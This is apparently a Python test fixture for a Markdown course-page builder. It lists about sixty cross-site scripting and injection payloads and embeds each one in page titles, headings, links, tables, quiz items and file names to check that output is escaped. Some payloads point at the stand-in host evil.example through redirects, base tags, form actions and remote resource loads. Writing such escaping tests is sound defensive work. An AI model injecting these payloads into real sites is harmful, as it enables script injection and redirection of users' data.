"""Attack payloads, and pages that contain them.

If a payload is not escaped, it sets `window.attacked` or sends a request to evil.example.
"""

PAYLOADS = [
    "<script>window.attacked=1</script>",
    "<ScRiPt>window.attacked=1</sCrIpT>",
    "<img src=x onerror=window.attacked=1>",
    "<img src=x onerror='window.attacked=1'>",
    '"><img src=x onerror=window.attacked=1>',
    "'><img src=x onerror=window.attacked=1>",
    "<svg onload=window.attacked=1>",
    "<svg><script>window.attacked=1</script></svg>",
    "<iframe srcdoc='<script>parent.attacked=1</script>'></iframe>",
    "<body onload=window.attacked=1>",
    "<details open ontoggle=window.attacked=1>",
    "<input autofocus onfocus=window.attacked=1>",
    "<select autofocus onfocus=window.attacked=1>",
    "<video><source onerror=window.attacked=1></video>",
    "<math><mtext></mtext><script>window.attacked=1</script></math>",
    "<a href=javascript:window.attacked=1>点</a>",
    "[点](javascript:window.attacked=1)",
    "[点](JaVaScRiPt:window.attacked=1)",
    "[点](data:text/html,<script>window.attacked=1</script>)",
    '![x](x" onerror="window.attacked=1)',
    "</legend><script>window.attacked=1</script>",
    "</label><script>window.attacked=1</script>",
    "</select><script>window.attacked=1</script>",
    "</details></div><script>window.attacked=1</script>",
    '" onmouseover="window.attacked=1',
    "' onmouseover='window.attacked=1",
    "{{ 7 * 7 }}{% set attacked = 1 %}",
    "${window.attacked=1}",
    "&lt;script&gt;window.attacked=1&lt;/script&gt;",
    "&#60;script&#62;window.attacked=1&#60;/script&#62;",
    "<!--><script>window.attacked=1</script>-->",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><button>点</button></form>",
    "<template><script>window.attacked=1</script></template>",
    '[[x"><script>window.attacked=1</script>]]',
    "**<b onclick=window.attacked=1>重</b>**",
    "\\x3cscript\\x3ewindow.attacked=1\\x3c/script\\x3e",
    "`<script>window.attacked=1</script>`",
    "<img/src=x/onerror=window.attacked=1>",
    '<img src=x onerror="window.attacked=1"//',
    "<img src=x onerror=&#119;indow.attacked=1>",
    "<svg><animate onbegin=window.attacked=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.attacked=1><text y=20>点</text></a></svg>",
    "<object data=javascript:window.attacked=1></object>",
    "<embed src=javascript:window.attacked=1>",
    "</title><script>window.attacked=1</script>",
    "</textarea><script>window.attacked=1</script>",
    "</script><script>window.attacked=1</script>",
    '<noscript><p title="</noscript><script>window.attacked=1</script>">',
    "--><script>window.attacked=1</script><!--",
    "]]><script>window.attacked=1</script>",
    "<javascript:window.attacked=1>",
    "[点](java&#115;cript:window.attacked=1)",
    "[点](https://evil.example/)",
    "![x](https://evil.example/x.png)",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<p style=background:url(http://evil.example/x.png)>",
    "＜script＞window.attacked=1＜/script＞",
]
_FRONT = (
    "---\ntitle: 攻击\norder: 9\nminutes: 9\nobjectives:\n  - 看\n---\n\n"
    "## 节 { #attack-section }\n"
)

# A page with every element that an author can write, except items. `{0}` is a payload, and `{1}` is
# the payload quoted for YAML.
_PAGE = """---
title: {1}
order: {2}
minutes: 9
objectives:
  - {1}
---

{0}

## {0} {{ #section-{3} }}

![{0}](../assets/images/x.png "{0}")

[{0}](../index.html "{0}")，见 [[queues|{0}]]。

| {0} | 乙 |
| --- | --- |
| {0} | 丁 |

### {0} {{ #term-{3} .概念 }}

话。

- 释义（编者）：{0}
- 别名：{0}
- 读音：{0}
- 出处：[[s1-1]]

### 问题 {{ #{0} .问题 }}

话。

- {0}：话
- 免（{0}）：{0}
- 出处：[[s1-1]]，[[{0}]]
"""


def _name(number: int) -> str:
    """Write a number with the letters a to j, so that ids contain no digits."""
    return "".join("abcdefghij"[int(digit)] for digit in f"{number:02}")


def hostile_pages() -> dict[str, str]:
    """Return one page for each payload, by file name.

    The payload is in every place where an author can write, and in the file name.
    """
    pages = {}
    for number, payload in enumerate(PAYLOADS):
        quoted = "'" + payload.replace("'", "''") + "'"
        name = f"{number:02}{payload}".replace("/", "")
        pages[f"{name}.md"] = _PAGE.format(payload, quoted, 10 + number, _name(number))
    return pages


def page_of_payloads() -> str:
    """Return a module of items.

    Each payload is in a stem, an option, two rationales and an explanation.
    """
    lines = [_FRONT]
    for number, payload in enumerate(PAYLOADS):
        name = _name(number)
        lines.append(
            f"### 题目{number} {'{'} #attack-{name} .题 {'}'}\n\n"
            f"第{number}问：依据文一，{payload} 是什么？\n\n"
            f"- [x] 对的{number}\n- [ ] 错的{number} {payload}\n\n    因为 {payload}\n\n"
            f"- [ ] 另一个{number}\n\n    也因为 {payload}\n\n"
            f"- 解析：看 {payload}\n- 出处：[[s1-1]]\n"
        )
    return "\n".join(lines)
